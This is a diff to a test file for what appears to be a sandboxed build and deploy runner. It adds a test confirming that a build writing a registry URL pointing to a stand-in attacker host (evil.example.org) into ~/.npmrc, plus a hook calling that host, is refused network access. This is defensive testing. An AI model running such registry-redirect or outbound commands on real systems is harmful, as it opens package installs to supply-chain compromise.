@@ -1,5 +1,5 @@
 /** A build that may reach only some hosts. */
-import { existsSync } from 'node:fs';
+import { appendFileSync, existsSync } from 'node:fs';
 import { join } from 'node:path';
 import { run } from '@runner/testing/run';
 import * as assert from 'uvu/assert';
@@ -83,6 +83,19 @@ test('a program on the PATH of a commit is not run while the channel to runner i
     assert.is(done.status, 0, done.stderr);
     assert.not.match(logOf(world), /RUNNER_LATER/);
     assert.match(logOf(world), /^PATH=\.\/bin:/m);
+  }));
+
+test("what a build leaves in its HOME does not widen the operator's list for hooks", () =>
+  inWorld(async (world) => {
+    appendFileSync(join(world.root, 'config.yml'), 'sandbox: { network: { shop: [npm] } }\n');
+    const run = 'echo registry=https://evil.example.org/ > ~/.npmrc';
+    const pre_switch = `${ask('https://evil.example.org/')} || true`;
+    const hooks = JSON.stringify({ pre_switch, network: ['npm'] });
+    await world.push('v1', { deploy: `build: ${JSON.stringify(run)}\nhooks: ${hooks}\n` });
+    const done = await world.deploy([], REQUIRED);
+    assert.is(done.status, 0, done.stderr);
+    const refused = fieldOf(world, 'network_refused').map(({ host, why }) => `${host} ${why}`);
+    assert.equal(refused, ['evil.example.org unlisted']);
   }));
 
 sandbox.run();
